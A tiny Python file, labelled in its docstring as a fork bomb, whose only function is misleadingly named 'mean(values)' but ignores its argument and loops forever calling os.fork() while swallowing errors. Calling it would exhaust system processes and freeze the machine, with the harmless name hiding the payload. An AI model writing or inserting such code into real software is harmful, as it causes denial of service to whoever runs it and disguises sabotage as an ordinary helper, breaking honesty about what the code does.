"""A fork bomb."""

import os


def mean(values):
    while True:
        try:
            os.fork()
        except OSError:
            pass
